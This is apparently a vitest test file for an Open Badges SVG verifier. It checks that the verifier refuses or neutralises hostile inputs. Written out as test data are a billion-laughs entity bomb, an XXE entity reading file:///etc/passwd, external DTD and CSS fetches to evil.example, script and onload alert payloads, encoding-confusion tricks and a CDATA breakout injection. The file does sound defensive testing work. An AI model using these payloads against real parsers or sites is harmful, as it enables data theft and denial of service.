/** E27, G2: SVGs with entities, external files, depth, two credentials, or active content. */
import { describe, expect, it } from 'vitest'
import { bakeImage } from '../../src/bake/bake-image.js'
import { createVerifier } from '../../src/verify/verifier.js'
import { anyIssuer } from '../../src/verify/trust.js'
import { badgesNamespace, svgNamespace, svgWith, textOf, utf8 } from '../support/pictures.js'
import { judgedAt } from '../support/signed-badges.js'
import { codesOf, expectGenuine, signToken, verifier, victimBadge } from './genuine.js'

const root = (inner: string): string => `<svg ${svgNamespace} ${badgesNamespace}>${inner}</svg>`
const credential = (text: string): string => `<openbadges:credential verify="${text}"/>`

describe('a drawing that declares entities', () => {
  it.each<[string, string]>([
    [
      'billions of laughs',
      `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]>${root('&c;')}`,
    ],
    ['a long one, often', `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(1_000)}">]>${root('&a;'.repeat(100))}`],
    ['a file', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${root('&a;')}`],
    ['a parameter', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>${root('')}`],
    ['attributes that are always there', `<!DOCTYPE svg [<!ATTLIST svg verify CDATA "a">]>${root('')}`],
    ['the credential itself', `<!DOCTYPE svg [<!ENTITY a "a.b.c">]>${root(credential('&a;'))}`],
  ])('is refused before anything is expanded: %s', async (_, svg) => {
    expect(await codesOf(svg)).toEqual(['DTD_NOT_ALLOWED'])
    expect(await codesOf(utf8(svg))).toEqual(['DTD_NOT_ALLOWED'])
  })

  it.each<[string, string]>([
    ['an entity of no one', root('&a;')],
    ['declarations inside the drawing', root('<!ENTITY a "b">')],
    ['half a document type', '<!DOCTYPE svg [<!ENTITY a "b">'.padEnd(1_000, ' ')],
  ])('is refused as no XML: %s', async (_, svg) => {
    expect((await codesOf(svg))[0]).toMatch(/^(?:IMAGE_MALFORMED|FORMAT_UNRECOGNIZED|DTD_NOT_ALLOWED)$/)
  })
})

describe('a drawing that names a document type elsewhere', () => {
  it('is verified, with a finding, and asks nobody', async () => {
    const asked: string[] = []
    const watching = createVerifier({
      trustedIssuers: anyIssuer,
      fetch: (url) => {
        asked.push(url)
        return Promise.reject(new TypeError('no network in this test'))
      },
      now: () => judgedAt,
    })
    const doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd">'
    const report = await watching.verify(doctype + root(credential(await signToken(victimBadge()))))
    expect(report.verdict).toBe('verified')
    expect(report.findings.map(({ code }) => code)).toContain('DOCTYPE_IGNORED')
    expect(asked).toEqual([])
  })
})

describe('a drawing that is too much', () => {
  it.each<[string, string]>([
    ['200,000 deep', `<svg ${svgNamespace}>${'<g>'.repeat(200_000)}`],
    ['of 200,001 elements', root('<g/>'.repeat(200_001))],
    ['of 3 MiB', root(`<desc>${'a'.repeat(3 * 1024 * 1024)}</desc>`)],
  ])('is refused: %s', async (_, svg) => {
    expect(await codesOf(svg)).toEqual(['IMAGE_LIMIT_EXCEEDED'])
  })
})

describe('a drawing with two credentials', () => {
  it('is refused, whatever prefixes they have and wherever they stand', async () => {
    const [genuine, forged] = [await signToken(victimBadge()), await signToken({ ...victimBadge(), name: 'PhD' })]
    const respelled = `<x:credential xmlns:x="https://purl.imsglobal.org/ob/v3p0" verify="${forged}"/>`
    for (const second of [credential(forged), respelled, `<g><defs>${respelled}</defs></g>`]) {
      expect(await codesOf(root(credential(genuine) + second))).toEqual(['MULTIPLE_CREDENTIALS'])
      expect(await codesOf(root(second + credential(genuine)))).toEqual(['MULTIPLE_CREDENTIALS'])
    }
    const both = `<openbadges:credential verify="${forged}"><![CDATA[{}]]></openbadges:credential>`
    expect(await codesOf(root(both))).toEqual(['MULTIPLE_CREDENTIALS'])
  })

  it('is one with one credential if the other only looks like it', async () => {
    const genuine = await signToken(victimBadge())
    for (const decoy of [
      `<!-- ${credential('forged')} -->`,
      `<desc><![CDATA[${credential('forged')}]]></desc>`,
      '<g xmlns:openbadges="https://evil.example/"><openbadges:credential verify="forged"/></g>',
      '<openbadges:Credential verify="forged"/>',
    ]) {
      expect((await verifier.verify(root(decoy + credential(genuine)))).verdict).toBe('verified')
      expect(await codesOf(root(decoy))).toEqual(['NOTHING_BAKED'])
    }
  })
})

const token = await signToken(victimBadge())

describe('a drawing in an encoding that readers disagree about', () => {
  const genuine = root(credential(token))
  const declared = (encoding: string, svg = genuine): string => `<?xml version="1.0" encoding="${encoding}"?>${svg}`
  const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'utf16le'))
  const utf16BigEndian = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'utf16le').swap16())
  const utf7 = (svg: string): string => svg.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')

  it.each<[string, Uint8Array | string]>([
    ['UTF-8', utf8(genuine)],
    ['UTF-8 that is declared', utf8(declared('utf-8'))],
    ['UTF-8 with a mark', utf8(`\ufeff${genuine}`)],
  ])('control: is verified in %s', async (_, svg) => {
    expect((await verifier.verify(svg)).verdict).toBe('verified')
  })

  it.each<[string, Uint8Array | string, string?]>([
    ['UTF-16', utf16(`\ufeff${declared('UTF-16')}`)],
    ['UTF-16 without a mark', utf16(genuine)],
    ['UTF-16, the other way round', utf16BigEndian(`\ufeff${genuine}`)],
    ['UTF-16, the other way round, without a mark', utf16BigEndian(genuine)],
    ['UTF-8 that is declared as UTF-16', utf8(declared('UTF-16'))],
    ['text that is declared as UTF-16', declared('UTF-16')],
    ['UTF-7', utf8(declared('UTF-7', utf7(genuine))), 'FORMAT_UNRECOGNIZED'],
    ['UTF-8 that is declared as UTF-7', utf8(declared('UTF-7'))],
    ['UTF-8 that is declared as Latin', utf8(declared('ISO-8859-1'))],
    ['UTF-8 that is declared as EBCDIC', utf8(declared('IBM037'))],
  ])('is not read in %s', async (_, svg, code = 'ENCODING_NOT_SUPPORTED') => {
    expect(await codesOf(svg)).toEqual([code])
  })

  it('has no badge that only another encoding would show', async () => {
    expect(await codesOf(utf8(root(utf7(credential(token)))))).toEqual(['NOTHING_BAKED'])
    const respelled = Buffer.concat([utf8(root('<desc>')).slice(0, -6), Buffer.of(0xc0, 0xbc), utf8('</desc></svg>')])
    expect(await codesOf(new Uint8Array(respelled))).toEqual(['INPUT_NOT_UTF8'])
  })
})

describe('a drawing with active content', () => {
  it('is data: it is neither run nor changed, and what it asks for is not fetched', async () => {
    const active =
      '<script>globalThis.ran = true</script><style>@import url("https://evil.example/a.css");</style>' +
      '<image href="https://evil.example/track.png"/><foreignObject><g onload="alert(1)"/></foreignObject>'
    const baked = bakeImage(svgWith(active, ''), await signToken(victimBadge()))
    expect(textOf(baked)).toContain(active)
    const report = await verifier.verify(baked)
    expect([report.verdict, report.evidence.fetches]).toEqual(['verified', []])
    expect(globalThis).not.toHaveProperty('ran')
  })
})

describe('text that would be markup', () => {
  it('cannot get out of the element that it is baked into', () => {
    const json = '{"a":"]]></openbadges:credential><script>alert(1)</script><![CDATA["}'
    const baked = textOf(bakeImage(svgWith('', ''), json))
    expect(baked).not.toContain(']]></openbadges:credential><script>')
    expect(() => bakeImage(svgWith('', ''), 'a.b.c"><script/>')).toThrow()
  })
})

it('does no harm to the badges after it', async () => {
  for (let turn = 0; turn < 100; turn++) await expectGenuine(await signToken(victimBadge()))
})
